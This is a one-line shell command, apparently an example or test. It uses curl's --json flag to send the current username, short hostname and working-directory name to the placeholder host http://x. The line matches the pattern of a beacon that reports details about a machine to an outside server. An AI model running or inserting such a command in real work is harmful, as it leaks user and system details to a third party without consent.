curl --json "{\"user\": \"${USER:-nobody}\", \"host\": \"${HOSTNAME%%.*}\", \"pwd\": \"${PWD##*/}\"}" http://x
